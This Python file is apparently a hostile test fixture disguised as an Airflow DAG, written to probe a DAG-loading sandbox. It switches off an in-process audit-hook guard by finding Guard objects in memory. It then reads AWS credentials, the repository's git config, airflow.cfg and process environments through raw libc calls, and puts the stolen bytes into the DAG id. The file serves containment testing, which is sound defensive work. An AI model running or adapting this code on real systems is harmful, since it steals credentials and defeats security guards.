import ctypes
import gc
import os

# The audit-hook guard is Python in the same process: switch it off, so that what
# stops this file is the kernel (Landlock, seccomp, rlimits), nothing else.
for thing in gc.get_objects():
    if type(thing).__name__ == "Guard":
        thing.armed = False
libc = ctypes.CDLL(None, use_errno=True)

# Read what is outside the readable set, and put it in this file's own result (its
# dag_id), where the report would show it: credentials, the checkout's token, the
# parent's environment, the user's Airflow configuration.
stolen = []
for path in ("{HOME}/.aws/credentials", "{REPO}/.git/config", "{AIRFLOW_HOME}/airflow.cfg",
             f"/proc/{os.getppid()}/environ", "/proc/1/environ"):
    fd = libc.open(path.encode(), os.O_RDONLY)
    if fd >= 0:
        buffer = ctypes.create_string_buffer(4096)
        stolen.append(buffer.raw[:max(0, libc.read(fd, buffer, 4096))])


from datetime import datetime  # noqa: E402

from airflow.models import DAG  # noqa: E402
from mojap_airflow_tools.operators import BasicKubernetesPodOperator  # noqa: E402

dag = DAG(
    dag_id="hostile.kernel_read" + ("" if not stolen else repr(stolen)),
    default_args={"owner": "hostile"},
    start_date=datetime(2022, 1, 1),
    schedule_interval=None,
)
BasicKubernetesPodOperator(
    dag=dag,
    repo_name="hostile",
    release="v1.0.0",
    role="airflow_dev_hostile",
    task_id="task-1",
)
